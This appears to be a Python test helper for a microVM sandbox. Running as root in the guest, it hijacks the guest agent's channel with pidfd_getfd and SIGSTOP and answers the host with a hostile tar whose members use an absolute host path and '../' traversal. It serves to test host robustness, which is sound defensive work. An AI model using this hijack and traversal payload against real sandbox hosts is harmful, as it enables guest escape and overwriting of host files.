"""Run inside a sandbox's guest, as root, by an exec: take the guest agent's channel over and answer the
host as a hostile agent would (root in the guest can; the host must not care).

argv: VICTIM, an absolute path on the host that the hostile tar's members name. Guest-side only: the
guest's own python3 and the agent's wire module (/opt/microvm-check/guestwire.py).

1. Wait until the real agent has told the host this exec started: its threads then read this process's
   stdout and stderr, and nothing of it writes to the channel until this process writes or ends.
2. Copy its channel descriptor (pidfd_getfd) and stop it (SIGSTOP; PID 1 powers the VM off only when
   it exits, and a stop is no exit).
3. Answer this exec as ended (exit 0), then each get_tar with a tar whose members are named VICTIM
   and ../victim2.txt: whole the first time, cut short inside a member after; anything else is refused.
"""

from __future__ import annotations

import ctypes
import os
import signal
import sys
import tarfile
import time

sys.path.insert(0, "/opt/microvm-check")
import guestwire as P  # the guest's copy of runner/vm/guestwire.py

SYS_PIDFD_GETFD = 438  # x86_64
WAIT_SECONDS = 60.0


def agent_channel() -> tuple[int, int]:
    """(pid, fd) of the process that holds the agent's virtio-serial port."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("/dev/vport"):
                    return int(pid), int(fd)
            except OSError:
                continue
    raise SystemExit("no process holds the agent's port")


def until(done, what: str) -> None:
    deadline = time.monotonic() + WAIT_SECONDS
    while not done():
        if time.monotonic() > deadline:
            raise SystemExit(f"gave up waiting: {what}")
        time.sleep(0.01)


def reads_my_output(pid: int) -> bool:
    """Whether threads of `pid` sit in read(2) on the read ends of this process's stdout and stderr pipes."""
    mine = {os.readlink(f"/proc/self/fd/{n}") for n in (1, 2)}
    ends = {int(fd) for fd in os.listdir(f"/proc/{pid}/fd") if _link(f"/proc/{pid}/fd/{fd}") in mine}
    reading = set()
    for task in os.listdir(f"/proc/{pid}/task"):
        fields = _read(f"/proc/{pid}/task/{task}/syscall").split()
        if len(fields) > 1 and fields[0] == "0":  # read(fd, ...)
            reading.add(int(fields[1], 16))
    return len(ends) == 2 and ends <= reading


def stopped(pid: int) -> bool:
    states = [_read(f"/proc/{pid}/task/{task}/stat").rsplit(")", 1)[-1].split()[:1] for task in os.listdir(f"/proc/{pid}/task")]
    return all(state in (["T"], ["t"]) for state in states)


def _link(path: str) -> str:
    try:
        return os.readlink(path)
    except OSError:
        return ""


def _read(path: str) -> str:
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return ""


def hostile_tar(victim: str, whole: bool) -> bytes:
    def regular(name: str, data: bytes) -> bytes:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        return info.tobuf(tarfile.PAX_FORMAT) + data + b"\0" * (-len(data) % 512)

    members = (regular(victim, b"written by the guest\n") + regular("../victim2.txt", b"written by the guest\n")
               + regular("good.txt", b"fine\n"))
    if whole:
        return members + b"\0" * 1024
    cut = tarfile.TarInfo("cut.bin")
    cut.size = 4096
    return members + cut.tobuf(tarfile.PAX_FORMAT) + b"x" * 100


def main() -> None:
    victim = sys.argv[1]
    with open("/proc/self/cgroup") as f:
        rid = int(f.read().strip().rsplit("/", 1)[1])  # the agent runs each exec in cgroup mvc/<request id>
    pid, fd = agent_channel()
    until(lambda: reads_my_output(pid), "the agent's output pumps for this exec")
    libc = ctypes.CDLL(None, use_errno=True)
    port = libc.syscall(SYS_PIDFD_GETFD, os.pidfd_open(pid), fd, 0)
    if port < 0:
        raise SystemExit(f"pidfd_getfd: {os.strerror(ctypes.get_errno())}")
    os.kill(pid, signal.SIGSTOP)
    until(lambda: stopped(pid), "the agent to stop")

    def send(data: bytes) -> None:
        view = memoryview(data)
        while view:
            view = view[os.write(port, view):]

    send(P.encode_msg(rid, {"ok": True, "exit_code": 0, "timed_out": False, "killed": False, "duration_ms": 1.0}))
    reader = P.FrameReader(lambda n: os.read(port, n))
    answered = 0
    while True:
        frame = reader.next()
        if frame is None:
            time.sleep(0.05)
            continue
        if frame.kind != P.MSG:
            continue
        if frame.json().get("op") != "get_tar":
            send(P.encode_msg(frame.request_id, {"ok": False, "error": "this agent was taken over"}))
            continue
        data = hostile_tar(victim, whole=answered == 0)
        answered += 1
        for start in range(0, len(data), P.MAX_CHUNK):
            send(P.encode(P.DATA, frame.request_id, data[start:start + P.MAX_CHUNK]))
        send(P.encode(P.END, frame.request_id))
        send(P.encode_msg(frame.request_id, {"ok": True, "members": 4, "size": len(data)}))


if __name__ == "__main__":
    main()
